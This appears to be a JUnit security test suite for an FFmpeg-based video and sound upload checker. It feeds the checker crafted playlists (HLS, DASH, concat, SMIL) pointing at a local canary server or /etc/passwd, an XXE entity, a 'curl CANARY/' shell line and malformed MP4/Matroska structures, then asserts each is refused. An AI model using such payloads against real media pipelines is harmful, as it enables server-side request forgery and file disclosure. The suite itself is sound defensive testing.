package dev.claquete.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.claquete.render.ffmpeg.FfmpegFailed;
import dev.claquete.render.ffmpeg.SoundCheck;
import dev.claquete.render.ffmpeg.SoundRefused;
import dev.claquete.render.ffmpeg.VideoCheck;
import dev.claquete.render.ffmpeg.VideoRefused;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The hostile-input suite, second part: what is said to be a video or a sound. Each case is refused with a sentence; nothing makes
 * FFmpeg talk to the canary, and no process and no file is left.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileMediaTest {

    private static final VideoCheck.Limits LIMITS = new VideoCheck.Limits(1_000_000, 60);
    private static final String NO_VIDEO = "must be a video (MP4";
    private static final String BROKEN = "is broken";

    /** What may be taken or not, as long as nothing else is opened. */
    private static final String ANY = "";

    @TempDir
    Path folder;

    @TempDir
    static Path workshop;

    private Studio studio;
    private Canary canary;

    /** @param rule that the video is refused by; a sound that is no video is just broken */
    record Case(String what, byte[] hostile, String rule) {

        Case(String what, String latin1, String rule) {
            this(what, latin1.getBytes(StandardCharsets.ISO_8859_1), rule);
        }

        @Override
        public String toString() {
            return what + " -> " + rule;
        }
    }

    @BeforeAll
    void open() {
        studio = new Studio(workshop);
        canary = new Canary();
    }

    @AfterAll
    void close() {
        assertThat(canary.visitors()).isZero();
        canary.close();
    }

    @AfterEach
    void nothingRunsAndNothingIsLeft() throws IOException {
        Files.deleteIfExists(folder.resolve("hostile"));
        assertThat(folder).isEmptyDirectory();
        assertThat(ProcessHandle.current().descendants().filter(ProcessHandle::isAlive))
                .isEmpty();
    }

    /** {@code CANARY} is its address. */
    static Stream<Case> scripts() {
        return Stream.of(
                new Case(
                        "HLS", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nCANARY/a.ts\n#EXT-X-ENDLIST\n", NO_VIDEO),
                new Case("HLS, of a file", "#EXTM3U\n#EXTINF:9,\nfile:///etc/passwd\n", NO_VIDEO),
                new Case(
                        "HLS, with a key",
                        "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"CANARY/k\"\n#EXTINF:1,\na.ts\n",
                        NO_VIDEO),
                new Case("HLS, with a map", "#EXTM3U\n#EXT-X-MAP:URI=\"CANARY/m\"\n#EXTINF:1,\na.ts\n", NO_VIDEO),
                new Case("HLS, master", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nCANARY/b.m3u8\n", NO_VIDEO),
                new Case("HLS, of concat", "#EXTM3U\n#EXTINF:1,\nconcat:CANARY/a|file:///etc/passwd\n", NO_VIDEO),
                new Case("HLS behind an ID3 tag", "ID3\4\0\0\0\0\0\0#EXTM3U\n#EXTINF:1,\nCANARY/a.mp3\n", NO_VIDEO),
                new Case("HLS behind a mark", "\u00ef\u00bb\u00bf#EXTM3U\n#EXTINF:1,\nCANARY/a.ts\n", NO_VIDEO),
                new Case(
                        "HLS behind a sync byte",
                        "G".repeat(189) + "#EXTM3U\n#EXTINF:1,\nCANARY/a.ts\n" + "G".repeat(400),
                        BROKEN),
                new Case("DASH", "<?xml version='1.0'?><MPD><BaseURL>CANARY/</BaseURL></MPD>", NO_VIDEO),
                new Case("PLS", "[playlist]\nFile1=CANARY/a.mp3\nNumberOfEntries=1\n", NO_VIDEO),
                new Case("ASX", "<asx version='3'><entry><ref href='CANARY/a'/></entry></asx>", NO_VIDEO),
                new Case(
                        "XSPF",
                        "<playlist><trackList><track><location>CANARY/a</location></track></trackList></playlist>",
                        NO_VIDEO),
                new Case("SMIL", "<smil><body><video src='CANARY/a'/></body></smil>", NO_VIDEO),
                new Case("a list to join", "ffconcat version 1.0\nfile CANARY/a.mp4\n", NO_VIDEO),
                new Case("a list to join, of a file", "ffconcat version 1.0\nfile /etc/passwd\n", NO_VIDEO),
                new Case("a concat address", "concat:CANARY/a|CANARY/b", NO_VIDEO),
                new Case(
                        "SDP",
                        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
                        NO_VIDEO),
                new Case("metadata", ";FFMETADATA1\ntitle=CANARY\n", NO_VIDEO),
                new Case("SVG", "<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY/a.png'/></svg>", NO_VIDEO),
                new Case("an entity", "<!DOCTYPE a [<!ENTITY b SYSTEM 'CANARY/'>]><a>&b;</a>", NO_VIDEO),
                new Case("HTML", "<!doctype html><video src='CANARY/a.mp4'></video>", NO_VIDEO),
                new Case("a shortcut", "[InternetShortcut]\nURL=CANARY/\n", NO_VIDEO),
                new Case("AviSynth", "DirectShowSource(\"CANARY/a.avi\")", NO_VIDEO),
                new Case("SRT", "1\n00:00:00,000 --> 00:00:01,000\n<img src='CANARY/'>\n", NO_VIDEO),
                new Case("VTT", "WEBVTT\n\nSTYLE\n::cue{background:url(CANARY/)}\n", NO_VIDEO),
                new Case("ASS", "[Script Info]\n[Fonts]\nfontname: CANARY\n", NO_VIDEO),
                new Case("a shell script", "#!/bin/sh\ncurl CANARY/\n", NO_VIDEO),
                new Case("PostScript", "%!PS\n(/etc/passwd) (r) file\n", NO_VIDEO),
                new Case("JSON", "{\"url\":\"CANARY\"}", NO_VIDEO));
    }

    static Stream<Case> otherKinds() {
        return Stream.of(
                new Case("nothing", "", "must not be empty"),
                new Case("one byte", "\0", NO_VIDEO),
                new Case("zeros", "\0".repeat(5000), NO_VIDEO),
                new Case("PDF", "%PDF-1.7\n", NO_VIDEO),
                new Case("ZIP", "PK\3\4" + "\0".repeat(60), NO_VIDEO),
                new Case("gzip", "\u001f\u008b\b\0", NO_VIDEO),
                new Case("GIF", "GIF89a" + "\0".repeat(60), NO_VIDEO),
                new Case("PNG", "\u0089PNG\r\n\u001a\n" + "\0".repeat(60), NO_VIDEO),
                new Case("JPEG", "\u00ff\u00d8\u00ff\u00e0" + "\0".repeat(60), NO_VIDEO),
                new Case("BMP", "BM" + "\0".repeat(60), NO_VIDEO),
                new Case("WebP", "RIFF\0\0\0\0WEBPVP8 ", NO_VIDEO),
                new Case("HEIC", "\0\0\0\u0018ftypheic\0\0\0\0", NO_VIDEO),
                new Case("AVIF", "\0\0\0\u0018ftypavif\0\0\0\0", NO_VIDEO),
                new Case("a program", "\u007fELF\2\1\1", NO_VIDEO),
                new Case("a Windows program", "MZ\u0090\0", NO_VIDEO),
                new Case("a Java class", "\u00ca\u00fe\u00ba\u00be", NO_VIDEO),
                new Case("Flash", "CWS\t", NO_VIDEO),
                new Case("ASF", "0&\u00b2u\u008ef\u00cf\u0011", NO_VIDEO),
                new Case("RealMedia", ".RMF\0\0\0\u0012", NO_VIDEO),
                new Case("raw frames", "YUV4MPEG2 W99999 H99999 F1:1\nFRAME\n", NO_VIDEO),
                new Case("NUT", "nut/multimedia container\0", NO_VIDEO),
                new Case("IVF", "DKIF\0\0 \0VP80", NO_VIDEO),
                new Case("raw H.264", "\0\0\0\1gB\0\n", NO_VIDEO),
                new Case("an e-mail", "MIME-Version: 1.0\r\n\r\n", NO_VIDEO));
    }

    static Stream<Case> structures() {
        byte[] ftyp = MovPatch.box("ftyp", "isom\0\0\2\0isom".getBytes(StandardCharsets.ISO_8859_1));
        byte[] deep = new byte[0];
        for (int i = 0; i < 2000; i++) {
            deep = MovPatch.box("trak", deep);
        }
        byte[] ebml = {0x1a, 0x45, (byte) 0xdf, (byte) 0xa3};
        return Stream.of(
                new Case("MP4 of one box", ftyp, BROKEN),
                new Case(
                        "MP4 with an empty index",
                        join(ftyp, MovPatch.box("moov", new byte[0])),
                        "has no video stream"),
                new Case(
                        "MP4 with an index of nothing",
                        join(ftyp, MovPatch.box("moov", new byte[9000])),
                        "has no video stream"),
                new Case("MP4 with an index beyond its end", join(ftyp, ints(0x7fffffff, 0x6d6f6f76)), BROKEN),
                new Case("MP4 with a negative size", join(ftyp, ints(1, 0x6d6f6f76, -1, -1)), BROKEN),
                new Case("MP4 with a box smaller than a box", join(ftyp, ints(3, 0x6d6f6f76, 0, 0)), BROKEN),
                new Case("MP4 of boxes within boxes", join(ftyp, MovPatch.box("moov", deep)), "has no video stream"),
                new Case(
                        "MP4 of four billion samples",
                        join(
                                ftyp,
                                MovPatch.box(
                                        "moov",
                                        MovPatch.box(
                                                "trak",
                                                MovPatch.box(
                                                        "mdia",
                                                        MovPatch.box(
                                                                "minf",
                                                                MovPatch.box(
                                                                        "stbl",
                                                                        MovPatch.box("stsz", ints(0, 0, -1)))))))),
                        BROKEN),
                new Case("MP4 of zeros", join(ftyp, new byte[4000]), BROKEN),
                new Case(
                        "HTML in an MP4",
                        join(ftyp, MovPatch.box("free", "<script>".getBytes(StandardCharsets.ISO_8859_1))),
                        BROKEN),
                new Case("HTML before an MP4", join("<html>".getBytes(StandardCharsets.ISO_8859_1), ftyp), NO_VIDEO),
                new Case(
                        "QuickTime that is compressed",
                        join(MovPatch.box(
                                "moov",
                                MovPatch.box(
                                        "cmov",
                                        join(
                                                MovPatch.box("dcom", "zlib".getBytes(StandardCharsets.ISO_8859_1)),
                                                MovPatch.box("cmvd", ints(-1, -1)))))),
                        BROKEN),
                new Case("Matroska of one tag", ebml, BROKEN),
                new Case("Matroska of endless size", join(ebml, new byte[] {1, -1, -1, -1, -1, -1, -1, -1}), BROKEN),
                new Case("Matroska of noise", join(ebml, noise(3000)), BROKEN),
                new Case("AVI of nothing", "RIFF\u00ff\u00ff\u00ff\u00ffAVI ", BROKEN),
                new Case(
                        "AVI of noise",
                        join("RIFF\0\0\0\0AVI LIST".getBytes(StandardCharsets.ISO_8859_1), noise(3000)),
                        "has no video stream"),
                new Case("FLV of nothing", "FLV\1\5\0\0\0\t\0\0\0\0", ""),
                new Case("FLV of a huge tag", "FLV\1\1\0\0\0\t\0\0\0\0\t\u00ff\u00ff\u00ff\0\0\0\0\0\0\0", ANY),
                new Case("MPEG-TS of noise", transportStream(), ANY),
                new Case("MPEG-PS of noise", join(new byte[] {0, 0, 1, (byte) 0xba}, noise(3000)), ANY));
    }

    @ParameterizedTest
    @MethodSource({"scripts", "otherKinds", "structures"})
    void isNoVideoAndNoSound(Case hostile) throws Exception {
        Path file = file(hostile.hostile());
        assertThatThrownBy(() -> new VideoCheck(studio.probe).check(file, LIMITS))
                .isInstanceOf(VideoRefused.class)
                .hasMessageContaining(hostile.rule());
        assertThatThrownBy(() -> new SoundCheck(studio.probe).check(file, 60)).isInstanceOf(SoundRefused.class);
    }

    @ParameterizedTest
    @MethodSource("scripts")
    void isNotFollowedEvenByARunThatForgotToGuardItself(Case hostile) throws Exception {
        Path file = file(hostile.hostile());
        TestTask task = studio.task();
        try {
            studio.ffmpeg.run(task, List.of("-i", file.toString(), "-f", "null", "-"));
        } catch (FfmpegFailed refused) {
            assertThat(refused.lastLines()).isNotEmpty();
        }
        assertThat(canary.visitors()).isZero();
        assertThat(task.scratch()).isEmptyDirectory();
    }

    @Test
    void referencesToOtherFilesAreNotFollowed() throws Exception {
        byte[] good = Files.readAllBytes(video("mpeg4", "testsrc=size=64x48:rate=5:duration=1"));
        for (String target : List.of(address() + "/a.mov", "/etc/passwd", "file:///etc/passwd", "../../etc/passwd")) {
            byte[] url = MovPatch.box("url ", join(new byte[4], (target + "\0").getBytes(StandardCharsets.ISO_8859_1)));
            for (byte[] reference : List.of(url, alias(target))) {
                byte[] dref = MovPatch.box("dref", join(ints(0, 1), reference));
                Path file = file(MovPatch.replace(good, "moov/trak/mdia/minf/dinf/dref", dref));
                try {
                    new VideoCheck(studio.probe).check(file, LIMITS);
                } catch (VideoRefused refused) {
                    assertThat(refused.rule()).contains(BROKEN);
                }
                Files.delete(file);
            }
        }
        assertThat(canary.visitors()).isZero();
    }

    @Test
    void absurdLengthsSizesAndRatesAreRefused() throws Exception {
        refused(
                video(
                        "mjpeg",
                        "testsrc=size=64x48:rate=5:duration=4",
                        "-vf",
                        "setpts=N*200000/TB",
                        "-fps_mode",
                        "passthrough",
                        "-enc_time_base",
                        "1:1000",
                        "-f",
                        "matroska"),
                "must be at most 60 seconds long");
        refused(video("mpeg4", "color=size=1600x1200:rate=1:duration=1"), "megapixels, not 1600 x 1200");
        refused(video("libx264", "testsrc=size=64x48:rate=50000:duration=0.001"), "frames a second");
    }

    @Test
    void thousandsOfStreamsAreRefused() throws Exception {
        List<String> arguments = new ArrayList<>(List.of(
                "-f", "lavfi", "-i", "testsrc=size=64x48:rate=5:duration=0.4", "-f", "lavfi", "-i", "sine=d=0.1"));
        arguments.addAll(List.of("-map", "0"));
        for (int i = 0; i < 100; i++) {
            arguments.addAll(List.of("-map", "1"));
        }
        Path many = studio.make(workshop.resolve("many.mkv"), arguments);
        refused(many, "must have at most 64 streams");
        assertThatThrownBy(() -> new SoundCheck(studio.probe).check(many, 60)).isInstanceOf(SoundRefused.class);
    }

    /** However a good file is cut, it is refused or read; it never hangs, and never is a fault of ours. */
    @Test
    void whereverAVideoIsCutItIsRefused() throws Exception {
        byte[] good =
                Files.readAllBytes(video("mpeg4", "testsrc=size=64x48:rate=5:duration=1", "-movflags", "+faststart"));
        for (int part = 1; part < 8; part++) {
            Path file = file(Arrays.copyOf(good, good.length * part / 8));
            assertThatThrownBy(() -> new VideoCheck(studio.probe).check(file, LIMITS))
                    .isInstanceOf(VideoRefused.class)
                    .hasMessageContaining(BROKEN);
            Files.delete(file);
        }
    }

    private void refused(Path file, String rule) {
        assertThatThrownBy(() -> new VideoCheck(studio.probe).check(file, LIMITS))
                .isInstanceOf(VideoRefused.class)
                .hasMessageContaining(rule);
    }

    private Path video(String encoder, String... arguments) throws IOException {
        List<String> all = new ArrayList<>(List.of("-f", "lavfi", "-i"));
        all.addAll(List.of(arguments));
        all.addAll(List.of("-c:v", encoder));
        return studio.make(workshop.resolve("good.mp4"), all);
    }

    private Path file(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.ISO_8859_1).replace("CANARY", address());
        return Files.write(folder.resolve("hostile"), text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private String address() {
        return "http://127.0.0.1:" + canary.port();
    }

    /** A Macintosh alias record with an absolute path (type 2), as QuickTime wrote them. */
    private static byte[] alias(String path) {
        byte[] name = path.getBytes(StandardCharsets.ISO_8859_1);
        ByteBuffer record = ByteBuffer.allocate(400);
        record.putInt(0).position(4 + 10);
        record.put((byte) 1).put((byte) 'a').position(4 + 10 + 28 + 12);
        record.put((byte) 1).put((byte) 'b').position(4 + 10 + 28 + 12 + 64 + 16);
        record.putShort((short) 1).putShort((short) 1).position(4 + 10 + 28 + 12 + 64 + 16 + 4 + 16);
        record.putShort((short) 2).putShort((short) name.length).put(name);
        if (name.length % 2 == 1) {
            record.put((byte) 0);
        }
        record.putShort((short) -1).putShort((short) 0);
        return MovPatch.box("alis", record.array());
    }

    private static byte[] transportStream() {
        byte[] stream = noise(188 * 20);
        for (int i = 0; i < stream.length; i += 188) {
            stream[i] = 'G';
        }
        return stream;
    }

    private static byte[] noise(int length) {
        byte[] noise = new byte[length];
        new Random(7).nextBytes(noise);
        return noise;
    }

    private static byte[] ints(int... values) {
        ByteBuffer bytes = ByteBuffer.allocate(4 * values.length);
        for (int value : values) {
            bytes.putInt(value);
        }
        return bytes.array();
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream whole = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            whole.writeBytes(part);
        }
        return whole.toByteArray();
    }
}
